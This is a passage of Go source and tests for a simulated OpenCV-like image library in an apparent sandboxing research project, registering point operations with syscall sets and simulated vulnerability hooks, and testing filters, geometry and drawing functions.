			nx, ny := x+gain*(mx-x), y+gain*(my-y)
			// Every access error must surface: a faulted write means the state
			// tensor is only partially updated, and swallowing it would report
			// success over silently corrupt state. Surfacing it turns the fault
			// into the crash-restart path, which restores the pre-call
			// checkpoint and re-executes — the mutation stays all-or-nothing.
			if err := st.SetFlat(0, nx); err != nil {
				return nil, err
			}
			if err := st.SetFlat(1, ny); err != nil {
				return nil, err
			}
			if err := st.SetFlat(2, nx-x); err != nil {
				return nil, err
			}
			if err := st.SetFlat(3, ny-y); err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			return []framework.Value{framework.Float64(nx), framework.Float64(ny)}, nil
		},
	})

	r.Register(binaryAPI("cv.matchShapes", 6, nil, dpSyscalls(),
		func(a, b *object.Mat, da, db []byte, args []framework.Value) (int, int, int, []byte, error) {
			// Compares binary silhouettes; emits a 1x1 similarity mat.
			ga := binarize(grayOf(a.Rows(), a.Cols(), a.Channels(), da))
			gb := binarize(grayOf(b.Rows(), b.Cols(), b.Channels(), db))
			na, nb := 0, 0
			for _, v := range ga {
				if v != 0 {
					na++
				}
			}
			for _, v := range gb {
				if v != 0 {
					nb++
				}
			}
			fa := float64(na) / float64(len(ga)+1)
			fb := float64(nb) / float64(len(gb)+1)
			return 1, 1, 1, []byte{clampByte(int(255 * (1 - math.Abs(fa-fb))))}, nil
		}))
}
