package simcv

import (
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// registerPoint installs per-pixel (point) operations.
func registerPoint(r *framework.Registry) {
	r.Register(unaryAPI("cv.threshold", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			thresh := byte(128)
			if len(args) > 1 {
				thresh = byte(args[1].Int)
			}
			out := make([]byte, len(data))
			for i, v := range data {
				if v > thresh {
					out[i] = 255
				}
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.adaptiveThreshold", 9, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			g := grayOf(rows, cols, ch, data)
			out := make([]byte, rows*cols)
			for rr := 0; rr < rows; rr++ {
				for cc := 0; cc < cols; cc++ {
					sum, n := 0, 0
					for dr := -1; dr <= 1; dr++ {
						for dc := -1; dc <= 1; dc++ {
							sum += int(pix(g, rows, cols, 1, rr+dr, cc+dc, 0))
							n++
						}
					}
					if int(g[rr*cols+cc])*n > sum {
						out[rr*cols+cc] = 255
					}
				}
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(unaryAPI("cv.bitwise_not", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = ^v
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	sameShape := func(a, b *object.Mat, da, db []byte) error {
		if len(da) != len(db) || a.Rows() != b.Rows() || a.Cols() != b.Cols() || a.Channels() != b.Channels() {
			return fmt.Errorf("simcv: shape mismatch %v vs %v", a, b)
		}
		return nil
	}

	bin := func(name string, f func(x, y byte) byte) *framework.API {
		return binaryAPI(name, 1, nil, dpSyscalls(),
			func(a, b *object.Mat, da, db []byte, args []framework.Value) (int, int, int, []byte, error) {
				if err := sameShape(a, b, da, db); err != nil {
					return 0, 0, 0, nil, err
				}
				out := make([]byte, len(da))
				for i := range da {
					out[i] = f(da[i], db[i])
				}
				return a.Rows(), a.Cols(), a.Channels(), out, nil
			})
	}
	r.Register(bin("cv.bitwise_and", func(x, y byte) byte { return x & y }))
	r.Register(bin("cv.bitwise_or", func(x, y byte) byte { return x | y }))
	r.Register(bin("cv.bitwise_xor", func(x, y byte) byte { return x ^ y }))
	r.Register(bin("cv.add", func(x, y byte) byte { return clampByte(int(x) + int(y)) }))
	r.Register(bin("cv.subtract", func(x, y byte) byte { return clampByte(int(x) - int(y)) }))
	r.Register(bin("cv.absdiff", func(x, y byte) byte {
		d := int(x) - int(y)
		if d < 0 {
			d = -d
		}
		return byte(d)
	}))
	r.Register(bin("cv.max", func(x, y byte) byte {
		if x > y {
			return x
		}
		return y
	}))
	r.Register(bin("cv.min", func(x, y byte) byte {
		if x < y {
			return x
		}
		return y
	}))
	r.Register(bin("cv.compare", func(x, y byte) byte {
		if x > y {
			return 255
		}
		return 0
	}))

	r.Register(binaryAPI("cv.addWeighted", 1, nil, dpSyscalls(),
		func(a, b *object.Mat, da, db []byte, args []framework.Value) (int, int, int, []byte, error) {
			if err := sameShape(a, b, da, db); err != nil {
				return 0, 0, 0, nil, err
			}
			alpha, beta, gamma := 0.5, 0.5, 0.0
			if len(args) > 2 {
				alpha = args[2].Float
			}
			if len(args) > 3 {
				beta = args[3].Float
			}
			if len(args) > 4 {
				gamma = args[4].Float
			}
			out := make([]byte, len(da))
			for i := range da {
				out[i] = clampByte(int(alpha*float64(da[i]) + beta*float64(db[i]) + gamma))
			}
			return a.Rows(), a.Cols(), a.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.multiply", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			k := 2.0
			if len(args) > 1 {
				k = args[1].Float
			}
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = clampByte(int(float64(v) * k))
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.convertScaleAbs", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			alpha, beta := 1.0, 0.0
			if len(args) > 1 {
				alpha = args[1].Float
			}
			if len(args) > 2 {
				beta = args[2].Float
			}
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = clampByte(int(math.Abs(alpha*float64(v) + beta)))
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.normalize", 2, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			lo, hi := byte(255), byte(0)
			for _, v := range data {
				if v < lo {
					lo = v
				}
				if v > hi {
					hi = v
				}
			}
			out := make([]byte, len(data))
			span := int(hi) - int(lo)
			if span == 0 {
				span = 1
			}
			for i, v := range data {
				out[i] = byte((int(v) - int(lo)) * 255 / span)
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.equalizeHist", 3, []string{CVEEqualizeDoS}, dpSyscalls(kernel.SysGetrandom),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			g := grayOf(rows, cols, ch, data)
			var hist [256]int
			for _, v := range g {
				hist[v]++
			}
			var cdf [256]int
			run := 0
			for i, h := range hist {
				run += h
				cdf[i] = run
			}
			total := len(g)
			out := make([]byte, total)
			for i, v := range g {
				out[i] = byte(cdf[v] * 255 / total)
			}
			return rows, cols, 1, out, nil
		}))

	r.Register(unaryAPI("cv.inRange", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			lo, hi := byte(0), byte(255)
			if len(args) > 1 {
				lo = byte(args[1].Int)
			}
			if len(args) > 2 {
				hi = byte(args[2].Int)
			}
			out := make([]byte, len(data))
			for i, v := range data {
				if v >= lo && v <= hi {
					out[i] = 255
				}
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.LUT", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			gamma := 2.0
			if len(args) > 1 && args[1].Float > 0 {
				gamma = args[1].Float
			}
			var lut [256]byte
			for i := range lut {
				lut[i] = clampByte(int(255 * math.Pow(float64(i)/255, 1/gamma)))
			}
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = lut[v]
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.sqrt", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = byte(math.Sqrt(float64(v)*255 + 0.5))
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.pow", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			out := make([]byte, len(data))
			for i, v := range data {
				out[i] = clampByte(int(v) * int(v) / 255)
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	r.Register(unaryAPI("cv.setTo", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			fill := byte(0)
			if len(args) > 1 {
				fill = byte(args[1].Int)
			}
			out := make([]byte, len(data))
			for i := range out {
				out[i] = fill
			}
			return m.Rows(), m.Cols(), m.Channels(), out, nil
		}))

	// cvtColor is the paper's canonical type-neutral API (§4.2.2): pure
	// memory-to-memory, used adjacent to loading, processing, and
	// visualizing alike.
	cvt := unaryAPI("cv.cvtColor", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			mode := "BGR2GRAY"
			if len(args) > 1 {
				mode = args[1].Str
			}
			switch mode {
			case "GRAY2BGR":
				if ch != 1 {
					return 0, 0, 0, nil, fmt.Errorf("simcv: GRAY2BGR on %d-channel image", ch)
				}
				out := make([]byte, rows*cols*3)
				for i, v := range data {
					out[i*3], out[i*3+1], out[i*3+2] = v, v, v
				}
				return rows, cols, 3, out, nil
			default: // any *2GRAY conversion
				return rows, cols, 1, grayOf(rows, cols, ch, data), nil
			}
		})
	cvt.Neutral = true
	r.Register(cvt)

	// copyTo is another type-neutral utility: a pure deep copy.
	cp := unaryAPI("cv.copyTo", 1, nil, dpSyscalls(),
		func(m *object.Mat, data []byte, args []framework.Value) (int, int, int, []byte, error) {
			return m.Rows(), m.Cols(), m.Channels(), append([]byte(nil), data...), nil
		})
	cp.Neutral = true
	r.Register(cp)

	r.Register(reduceAPI("cv.split", 1, nil, dpSyscalls(),
		func(ctx *framework.Ctx, m *object.Mat, data []byte, args []framework.Value) ([]framework.Value, error) {
			rows, cols, ch := m.Rows(), m.Cols(), m.Channels()
			out := make([]framework.Value, 0, ch)
			for c := 0; c < ch; c++ {
				plane := make([]byte, rows*cols)
				for i := 0; i < rows*cols; i++ {
					plane[i] = data[i*ch+c]
				}
				v, err := outMat(ctx, rows, cols, 1, plane)
				if err != nil {
					return nil, err
				}
				out = append(out, v)
			}
			return out, nil
		}))

	var mergeAPI *framework.API
	mergeAPI = &framework.API{
		Name: "cv.merge", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: memOps(), Syscalls: dpSyscalls(), Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if err := needArgs("cv.merge", args, 1); err != nil {
				return nil, err
			}
			planes := make([][]byte, 0, len(args))
			var rows, cols int
			for i, a := range args {
				m, data, err := matAndBytes(ctx, a)
				if err != nil {
					return nil, err
				}
				if fired, err := ctx.MaybeExploit(mergeAPI, data); fired {
					return nil, err
				}
				if m.Channels() != 1 {
					return nil, fmt.Errorf("simcv: merge plane %d has %d channels", i, m.Channels())
				}
				if i == 0 {
					rows, cols = m.Rows(), m.Cols()
				} else if m.Rows() != rows || m.Cols() != cols {
					return nil, fmt.Errorf("simcv: merge plane %d shape mismatch", i)
				}
				planes = append(planes, data)
			}
			ch := len(planes)
			out := make([]byte, rows*cols*ch)
			for i := 0; i < rows*cols; i++ {
				for c := 0; c < ch; c++ {
					out[i*ch+c] = planes[c][i]
				}
			}
			ctx.Charge(len(out), 1)
			ctx.EmitMemOp()
			v, err := outMat(ctx, rows, cols, ch, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	r.Register(mergeAPI)
}
