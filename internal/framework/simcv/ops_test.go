package simcv_test

import (
	"testing"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/object"
)

// checkerboard builds an 8x8 alternating pattern.
func (e *env) checkerboard(t *testing.T) framework.Value {
	t.Helper()
	data := make([]byte, 64)
	for r := 0; r < 8; r++ {
		for c := 0; c < 8; c++ {
			if (r+c)%2 == 0 {
				data[r*8+c] = 255
			}
		}
	}
	id, _, err := e.ctx.NewMatFromBytes(8, 8, 1, data)
	if err != nil {
		t.Fatal(err)
	}
	return framework.Obj(id)
}

func TestAdaptiveThreshold(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "cv.adaptiveThreshold", e.checkerboard(t))
	m := e.matOf(t, out[0])
	// On a checkerboard every bright pixel exceeds its local mean.
	v, _ := m.At(0, 0, 0)
	w, _ := m.At(0, 1, 0)
	if v != 255 || w != 0 {
		t.Fatalf("adaptive threshold = %d, %d", v, w)
	}
}

func TestBitwiseAndOrXor(t *testing.T) {
	e := newEnv(t)
	a := e.grad(t)
	notA := e.call(t, "cv.bitwise_not", a)[0]
	// a AND ~a == 0; a OR ~a == 255; a XOR a == 0.
	andB := e.bytesOf(t, e.call(t, "cv.bitwise_and", a, notA)[0])
	orB := e.bytesOf(t, e.call(t, "cv.bitwise_or", a, notA)[0])
	xorB := e.bytesOf(t, e.call(t, "cv.bitwise_xor", a, a)[0])
	for i := range andB {
		if andB[i] != 0 || orB[i] != 255 || xorB[i] != 0 {
			t.Fatalf("bitwise identities broken at %d: %d %d %d", i, andB[i], orB[i], xorB[i])
		}
	}
}

func TestSubtractMinMaxCompare(t *testing.T) {
	e := newEnv(t)
	id1, m1, _ := e.ctx.NewMat(1, 2, 1)
	_ = m1.Set(0, 0, 0, 50)
	_ = m1.Set(0, 1, 0, 200)
	id2, m2, _ := e.ctx.NewMat(1, 2, 1)
	_ = m2.Set(0, 0, 0, 100)
	_ = m2.Set(0, 1, 0, 100)
	a, b := framework.Obj(id1), framework.Obj(id2)

	sub := e.bytesOf(t, e.call(t, "cv.subtract", a, b)[0])
	if sub[0] != 0 || sub[1] != 100 { // saturating at 0
		t.Fatalf("subtract = %v", sub)
	}
	mn := e.bytesOf(t, e.call(t, "cv.min", a, b)[0])
	mx := e.bytesOf(t, e.call(t, "cv.max", a, b)[0])
	if mn[0] != 50 || mn[1] != 100 || mx[0] != 100 || mx[1] != 200 {
		t.Fatalf("min/max = %v %v", mn, mx)
	}
	cmp := e.bytesOf(t, e.call(t, "cv.compare", a, b)[0])
	if cmp[0] != 0 || cmp[1] != 255 {
		t.Fatalf("compare = %v", cmp)
	}
}

func TestAddWeightedAndMultiply(t *testing.T) {
	e := newEnv(t)
	id1, m1, _ := e.ctx.NewMat(1, 1, 1)
	_ = m1.Set(0, 0, 0, 100)
	id2, m2, _ := e.ctx.NewMat(1, 1, 1)
	_ = m2.Set(0, 0, 0, 200)
	out := e.bytesOf(t, e.call(t, "cv.addWeighted",
		framework.Obj(id1), framework.Obj(id2),
		framework.Float64(0.5), framework.Float64(0.25), framework.Float64(10))[0])
	if out[0] != 110 { // 50 + 50 + 10
		t.Fatalf("addWeighted = %d", out[0])
	}
	mul := e.bytesOf(t, e.call(t, "cv.multiply", framework.Obj(id1), framework.Float64(3))[0])
	if mul[0] != 255 { // saturates
		t.Fatalf("multiply = %d", mul[0])
	}
}

func TestConvertScaleAbsAndLUT(t *testing.T) {
	e := newEnv(t)
	id, m, _ := e.ctx.NewMat(1, 2, 1)
	_ = m.Set(0, 0, 0, 10)
	_ = m.Set(0, 1, 0, 100)
	out := e.bytesOf(t, e.call(t, "cv.convertScaleAbs", framework.Obj(id),
		framework.Float64(2), framework.Float64(-50))[0])
	if out[0] != 30 || out[1] != 150 { // |2*10-50|=30, |2*100-50|=150
		t.Fatalf("convertScaleAbs = %v", out)
	}
	lut := e.bytesOf(t, e.call(t, "cv.LUT", framework.Obj(id), framework.Float64(2))[0])
	if lut[1] <= 100 {
		t.Fatalf("gamma-2 LUT should brighten midtones: %v", lut)
	}
}

func TestInRangeSqrtPowSetTo(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	mask := e.bytesOf(t, e.call(t, "cv.inRange", in, framework.Int64(100), framework.Int64(200))[0])
	orig := e.bytesOf(t, in)
	for i := range mask {
		want := byte(0)
		if orig[i] >= 100 && orig[i] <= 200 {
			want = 255
		}
		if mask[i] != want {
			t.Fatalf("inRange[%d] = %d for %d", i, mask[i], orig[i])
		}
	}
	sq := e.bytesOf(t, e.call(t, "cv.sqrt", in)[0])
	if sq[0] != 0 {
		t.Fatalf("sqrt(0) = %d", sq[0])
	}
	pw := e.bytesOf(t, e.call(t, "cv.pow", in)[0])
	if pw[63] != byte(int(orig[63])*int(orig[63])/255) {
		t.Fatalf("pow = %d", pw[63])
	}
	st := e.bytesOf(t, e.call(t, "cv.setTo", in, framework.Int64(7))[0])
	for _, v := range st {
		if v != 7 {
			t.Fatalf("setTo = %d", v)
		}
	}
}

func TestFilterFamilies(t *testing.T) {
	e := newEnv(t)
	in := e.checkerboard(t)
	for _, api := range []string{
		"cv.boxFilter", "cv.medianBlur", "cv.bilateralFilter", "cv.sepFilter2D",
		"cv.Sobel", "cv.Scharr", "cv.Laplacian",
	} {
		out := e.call(t, api, in)
		if e.matOf(t, out[0]).Size() != 64 {
			t.Fatalf("%s wrong output size", api)
		}
	}
	// Median on a checkerboard interior stays binary; box filter averages.
	med := e.bytesOf(t, e.call(t, "cv.medianBlur", in)[0])
	box := e.bytesOf(t, e.call(t, "cv.boxFilter", in)[0])
	if med[3*8+3] != 255 && med[3*8+3] != 0 {
		t.Fatalf("median should stay binary, got %d", med[3*8+3])
	}
	if box[3*8+3] == 0 || box[3*8+3] == 255 {
		t.Fatalf("box filter should average, got %d", box[3*8+3])
	}
}

func TestFilter2DWithKernel(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	kid, kt, _ := e.ctx.NewTensor(3, 3)
	_ = kt.SetValues([]float64{0, 0, 0, 0, 1, 0, 0, 0, 0}) // identity
	out := e.bytesOf(t, e.call(t, "cv.filter2D", in, framework.Obj(kid))[0])
	orig := e.bytesOf(t, in)
	for i := range orig {
		if out[i] != orig[i] {
			t.Fatalf("identity filter2D changed pixel %d", i)
		}
	}
	// Wrong kernel size fails.
	bad, _, _ := e.ctx.NewTensor(4)
	if _, err := e.reg.MustGet("cv.filter2D").Exec(e.ctx, []framework.Value{in, framework.Obj(bad)}); err == nil {
		t.Fatal("non-3x3 kernel should fail")
	}
}

func TestGetStructuringElement(t *testing.T) {
	e := newEnv(t)
	out := e.call(t, "cv.getStructuringElement", e.grad(t))
	m := e.matOf(t, out[0])
	if m.Rows() != 3 || m.Cols() != 3 {
		t.Fatalf("element = %v", m)
	}
}

func TestDistanceTransform(t *testing.T) {
	e := newEnv(t)
	// Single bright pixel: distance grows with manhattan distance.
	data := make([]byte, 64)
	data[0] = 255
	id, _, _ := e.ctx.NewMatFromBytes(8, 8, 1, data)
	out := e.bytesOf(t, e.call(t, "cv.distanceTransform", framework.Obj(id))[0])
	if out[0] != 0 {
		t.Fatalf("distance at the feature = %d", out[0])
	}
	if out[7] != 7 || out[63] != 14 {
		t.Fatalf("chamfer distances = %d, %d", out[7], out[63])
	}
}

func TestIntegralMonotone(t *testing.T) {
	e := newEnv(t)
	out := e.bytesOf(t, e.call(t, "cv.integral", e.grad(t))[0])
	// Integral image is monotone along rows and columns.
	for r := 0; r < 8; r++ {
		for c := 1; c < 8; c++ {
			if out[r*8+c] < out[r*8+c-1] {
				t.Fatalf("integral not monotone at (%d,%d)", r, c)
			}
		}
	}
	if out[63] != 255 {
		t.Fatalf("normalized integral corner = %d", out[63])
	}
}

func TestGeometryFamilies(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	border := e.matOf(t, e.call(t, "cv.copyMakeBorder", in, framework.Int64(2))[0])
	if border.Rows() != 12 || border.Cols() != 12 {
		t.Fatalf("border shape = %v", border)
	}
	und := e.matOf(t, e.call(t, "cv.undistort", in)[0])
	if und.Size() != 64 {
		t.Fatal("undistort wrong size")
	}
	// remap with a zero flow is the identity.
	fid, ft, _ := e.ctx.NewTensor(8, 8, 2)
	_ = ft.SetValues(make([]float64, 128))
	re := e.bytesOf(t, e.call(t, "cv.remap", in, framework.Obj(fid))[0])
	orig := e.bytesOf(t, in)
	for i := range orig {
		if re[i] != orig[i] {
			t.Fatal("zero-flow remap should be identity")
		}
	}
	// Mismatched flow shape fails.
	bad, bt, _ := e.ctx.NewTensor(4, 4, 2)
	_ = bt.SetValues(make([]float64, 32))
	if _, err := e.reg.MustGet("cv.remap").Exec(e.ctx, []framework.Value{in, framework.Obj(bad)}); err == nil {
		t.Fatal("mismatched remap flow should fail")
	}
}

func TestPerspectiveTransformComposition(t *testing.T) {
	e := newEnv(t)
	mk := func(vals []float64) framework.Value {
		id, tt, _ := e.ctx.NewTensor(len(vals))
		_ = tt.SetValues(vals)
		return framework.Obj(id)
	}
	src := mk([]float64{0, 0, 8, 0, 8, 8, 0, 8})
	dst := mk([]float64{1, 1, 9, 1, 9, 9, 1, 9})
	h := e.call(t, "cv.getPerspectiveTransform", src, dst)[0]
	ht, _ := e.ctx.Tensor(h)
	if sh := ht.Shape(); sh[0] != 3 || sh[1] != 3 {
		t.Fatalf("homography shape = %v", sh)
	}
	// Applying it to an image works.
	out := e.call(t, "cv.warpPerspective", e.grad(t), h)
	if e.matOf(t, out[0]).Size() != 64 {
		t.Fatal("warp wrong size")
	}
	if _, err := e.reg.MustGet("cv.getAffineTransform").Exec(e.ctx,
		[]framework.Value{mk([]float64{1}), mk([]float64{2})}); err == nil {
		t.Fatal("too-short quads should fail")
	}
}

func TestAnalysisFamilies(t *testing.T) {
	e := newEnv(t)
	in := e.checkerboard(t)
	// HoughLines on a full-row stripe.
	data := make([]byte, 64)
	for c := 0; c < 8; c++ {
		data[3*8+c] = 255
	}
	sid, _, _ := e.ctx.NewMatFromBytes(8, 8, 1, data)
	lines := e.call(t, "cv.HoughLines", framework.Obj(sid))[0]
	lt, _ := e.ctx.Tensor(lines)
	orient, _ := lt.At(0, 0)
	idx, _ := lt.At(0, 1)
	if orient != 0 || idx != 3 {
		t.Fatalf("hough line = (%v, %v), want horizontal at row 3", orient, idx)
	}

	// connectedComponents on the stripe: one component + background.
	res := e.call(t, "cv.connectedComponents", framework.Obj(sid))
	if res[0].Int != 2 {
		t.Fatalf("components = %d, want 2 (bg + stripe)", res[0].Int)
	}

	// moments of the stripe: centroid row = 3.
	mm := e.call(t, "cv.moments", framework.Obj(sid))[0]
	mt, _ := e.ctx.Tensor(mm)
	m00, _ := mt.AtFlat(0)
	m01, _ := mt.AtFlat(2)
	if m00 == 0 || m01/m00 != 3 {
		t.Fatalf("centroid row = %v", m01/m00)
	}

	// reduce: row sums.
	rs := e.call(t, "cv.reduce", framework.Obj(sid))[0]
	rt, _ := e.ctx.Tensor(rs)
	row3, _ := rt.AtFlat(3)
	row0, _ := rt.AtFlat(0)
	if row3 != 8*255 || row0 != 0 {
		t.Fatalf("reduce = %v, %v", row3, row0)
	}

	// norm is the Euclidean magnitude.
	if n := e.call(t, "cv.norm", framework.Obj(sid))[0].Float; n <= 0 {
		t.Fatalf("norm = %v", n)
	}

	// cornerHarris responds to gradients (the checkerboard's period-2
	// pattern cancels under central differences, so use the ramp).
	ch := e.bytesOf(t, e.call(t, "cv.cornerHarris", e.grad(t))[0])
	any := false
	for _, v := range ch {
		if v > 0 {
			any = true
		}
	}
	if !any {
		t.Fatal("harris found no response on a gradient")
	}

	// goodFeaturesToTrack returns coordinates inside the image.
	gf := e.call(t, "cv.goodFeaturesToTrack", in)[0]
	gt, _ := e.ctx.Tensor(gf)
	x, _ := gt.At(0, 0)
	y, _ := gt.At(0, 1)
	if x < 0 || x > 7 || y < 0 || y > 7 {
		t.Fatalf("feature at (%v,%v)", x, y)
	}
}

func TestHoughCirclesFindsDisc(t *testing.T) {
	e := newEnv(t)
	data := make([]byte, 256)
	// 6x6 filled square at (5,5): round-ish enough for the detector.
	for r := 5; r < 11; r++ {
		for c := 5; c < 11; c++ {
			data[r*16+c] = 255
		}
	}
	id, _, _ := e.ctx.NewMatFromBytes(16, 16, 1, data)
	out := e.call(t, "cv.HoughCircles", framework.Obj(id))[0]
	ct, _ := e.ctx.Tensor(out)
	cx, _ := ct.At(0, 0)
	cy, _ := ct.At(0, 1)
	if cx != 8 || cy != 8 {
		t.Fatalf("circle centre = (%v,%v), want (8,8)", cx, cy)
	}
}

func TestOpticalFlowAndPhaseCorrelate(t *testing.T) {
	e := newEnv(t)
	a := e.grad(t)
	b := e.grad(t)
	flow := e.bytesOf(t, e.call(t, "cv.calcOpticalFlowFarneback", a, b)[0])
	for _, v := range flow {
		if v != 0 {
			t.Fatal("identical frames should have zero flow")
		}
	}
	pc := e.bytesOf(t, e.call(t, "cv.phaseCorrelate", a, b)[0])
	if pc[0] != 128 || pc[1] != 128 { // (0+128, 0+128)
		t.Fatalf("phase correlate shift = %v", pc)
	}
}

func TestMatchShapes(t *testing.T) {
	e := newEnv(t)
	a := e.checkerboard(t)
	same := e.bytesOf(t, e.call(t, "cv.matchShapes", a, a)[0])
	if same[0] < 250 {
		t.Fatalf("self similarity = %d", same[0])
	}
	blank, _, _ := e.ctx.NewMat(8, 8, 1)
	diff := e.bytesOf(t, e.call(t, "cv.matchShapes", a, framework.Obj(blank))[0])
	if diff[0] >= same[0] {
		t.Fatalf("different shapes (%d) should score below identical (%d)", diff[0], same[0])
	}
}

func TestDrawingFamilies(t *testing.T) {
	e := newEnv(t)
	blankOf := func() (framework.Value, *object.Mat) {
		id, m, _ := e.ctx.NewMat(8, 8, 1)
		return framework.Obj(id), m
	}
	// line: endpoints are set.
	lv, lm := blankOf()
	e.call(t, "cv.line", lv, framework.Int64(0), framework.Int64(0), framework.Int64(7), framework.Int64(7))
	if v, _ := lm.At(0, 0, 0); v != 255 {
		t.Fatal("line start unset")
	}
	if v, _ := lm.At(7, 7, 0); v != 255 {
		t.Fatal("line end unset")
	}
	// circle: centre stays clear, perimeter set.
	cv2, cm := blankOf()
	e.call(t, "cv.circle", cv2, framework.Int64(4), framework.Int64(4), framework.Int64(3))
	if v, _ := cm.At(4, 4, 0); v != 0 {
		t.Fatal("circle centre should stay clear")
	}
	if v, _ := cm.At(4, 7, 0); v != 255 {
		t.Fatal("circle perimeter unset")
	}
	// fillPoly fills the region.
	fv, fm := blankOf()
	e.call(t, "cv.fillPoly", fv, framework.Int64(1), framework.Int64(1), framework.Int64(3), framework.Int64(3))
	if v, _ := fm.At(2, 2, 0); v != 255 {
		t.Fatal("fillPoly interior unset")
	}
	// arrowedLine, ellipse, polylines, drawMarker run and mark pixels.
	for _, api := range []string{"cv.arrowedLine", "cv.ellipse", "cv.polylines", "cv.drawMarker"} {
		dv, dm := blankOf()
		e.call(t, api, dv)
		data, _ := object.PayloadBytes(dm)
		marked := false
		for _, px := range data {
			if px != 0 {
				marked = true
			}
		}
		if !marked {
			t.Fatalf("%s drew nothing", api)
		}
	}
	// ellipse rejects degenerate axes.
	ev, _ := blankOf()
	if _, err := e.reg.MustGet("cv.ellipse").Exec(e.ctx, []framework.Value{ev,
		framework.Int64(4), framework.Int64(4), framework.Int64(0), framework.Int64(2)}); err == nil {
		t.Fatal("zero-axis ellipse should fail")
	}
}

func TestDrawContoursOutlinesBoxes(t *testing.T) {
	e := newEnv(t)
	cid, ct, _ := e.ctx.NewTensor(1, 5)
	_ = ct.SetValues([]float64{2, 2, 5, 5, 9})
	id, m, _ := e.ctx.NewMat(8, 8, 1)
	e.call(t, "cv.drawContours", framework.Obj(id), framework.Obj(cid))
	if v, _ := m.At(2, 2, 0); v != 255 {
		t.Fatal("contour corner unset")
	}
	if v, _ := m.At(3, 3, 0); v != 0 {
		t.Fatal("contour interior should stay clear")
	}
	// Malformed contour tensor fails.
	bad, _, _ := e.ctx.NewTensor(3)
	if _, err := e.reg.MustGet("cv.drawContours").Exec(e.ctx,
		[]framework.Value{framework.Obj(id), framework.Obj(bad)}); err == nil {
		t.Fatal("1-D contour tensor should fail")
	}
}

func TestORBAndBFMatcher(t *testing.T) {
	e := newEnv(t)
	in := e.checkerboard(t)
	kps := e.call(t, "cv.ORB.detect", in)[0]
	kt, _ := e.ctx.Tensor(kps)
	if kt.Shape()[0] < 1 {
		t.Fatal("ORB found no keypoints on a checkerboard")
	}
	hog := e.call(t, "cv.HOGDescriptor.compute", in)[0]
	matches := e.call(t, "cv.BFMatcher.match", hog, hog)[0]
	mt, _ := e.ctx.Tensor(matches)
	// Self-matching: every descriptor's nearest neighbour distance is 0.
	d, _ := mt.At(0, 1)
	if d != 0 {
		t.Fatalf("self-match distance = %v", d)
	}
	// Mismatched descriptor widths fail.
	bad, _, _ := e.ctx.NewTensor(2, 3)
	if _, err := e.reg.MustGet("cv.BFMatcher.match").Exec(e.ctx,
		[]framework.Value{hog, framework.Obj(bad)}); err == nil {
		t.Fatal("mismatched descriptor width should fail")
	}
}

func TestCopyToNeutral(t *testing.T) {
	e := newEnv(t)
	in := e.grad(t)
	cp := e.call(t, "cv.copyTo", in)[0]
	if string(e.bytesOf(t, cp)) != string(e.bytesOf(t, in)) {
		t.Fatal("copyTo should duplicate")
	}
	if api, _ := e.reg.Get("cv.copyTo"); !api.Neutral {
		t.Fatal("copyTo should be type-neutral")
	}
}

func TestMergeErrors(t *testing.T) {
	e := newEnv(t)
	multi, _, _ := e.ctx.NewMat(2, 2, 3)
